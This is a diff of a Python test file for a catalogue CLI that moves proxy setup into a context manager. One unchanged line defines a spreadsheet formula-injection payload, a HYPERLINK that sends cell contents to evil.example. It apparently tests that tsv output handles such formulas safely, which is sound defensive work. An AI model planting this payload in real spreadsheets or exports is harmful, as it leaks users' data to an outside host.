@@ -79,7 +79,7 @@ def test_an_unknown_locale_is_one_sentence(run_cli):
 
 
 def test_a_catalogue_page_that_is_not_json_is_one_clear_error(project, sandbox, run_cli):
-    from ..reconcile.conftest import point_project_at
+    from ..reconcile.conftest import pointed_at
     from ..reconcile.proxies import Proxy
 
     class MaintenancePage(Proxy):
@@ -92,11 +92,8 @@ def test_a_catalogue_page_that_is_not_json_is_one_clear_error(project, sandbox, 
             return b"<html><body>Down for maintenance</body></html>"
 
     proxy = MaintenancePage(sandbox.url)
-    point_project_at(project, proxy.url)
-    try:
+    with pointed_at(project, proxy):
         result = run_cli("attributes", "--locale", "en_US", "--refresh")
-    finally:
-        proxy.stop()
     assert result.exit_code == 1
     assert result.stderr.splitlines()[-1] == (
         f"Error: GET {proxy.url}/buyers/v3/attributes answered 200: the body is not JSON"
@@ -107,7 +104,7 @@ def test_a_catalogue_page_that_is_not_json_is_one_clear_error(project, sandbox, 
 def test_attributes_whose_codes_are_written_as_text_are_the_same_catalogue(
     api, project, sandbox, run_cli
 ):
-    from ..reconcile.conftest import point_project_at
+    from ..reconcile.conftest import pointed_at
     from ..reconcile.proxies import Proxy
 
     class CodesAsText(Proxy):
@@ -123,11 +120,8 @@ def test_attributes_whose_codes_are_written_as_text_are_the_same_catalogue(
             return json.dumps(items).encode()
 
     proxy = CodesAsText(sandbox.url)
-    point_project_at(project, proxy.url)
-    try:
+    with pointed_at(project, proxy):
         result = run_cli("attributes", "--locale", "en_US", "--format", "json", "--refresh")
-    finally:
-        proxy.stop()
     assert result.exit_code == 0, result.output
     assert {a["qualification_code"] for a in json.loads(result.stdout)} == _all_codes(api)
 
@@ -140,7 +134,7 @@ FORMULA_QUESTION = '=HYPERLINK("http://evil.example/?q="&A1,"What is your gender
 def _tsv_of_a_formula_question(project, sandbox, run_cli, *options: str) -> dict[str, str]:
     """The tsv row of attribute 211 as `attributes` writes it when the catalogue gives its
     question as FORMULA_QUESTION."""
-    from ..reconcile.conftest import point_project_at
+    from ..reconcile.conftest import pointed_at
     from ..reconcile.proxies import Proxy
 
     class FormulaQuestion(Proxy):
@@ -155,13 +149,10 @@ def _tsv_of_a_formula_question(project, sandbox, run_cli, *options: str) -> dict
             return json.dumps(items).encode()
 
     proxy = FormulaQuestion(sandbox.url)
-    point_project_at(project, proxy.url)
-    try:
+    with pointed_at(project, proxy):
         result = run_cli(
             "attributes", "--search", "gender", "--format", "tsv", "--refresh", *options
         )
-    finally:
-        proxy.stop()
     assert result.exit_code == 0, result.output
     rows = csv.DictReader(io.StringIO(result.stdout), dialect="excel-tab")
     return {row["code"]: row for row in rows}["211"]
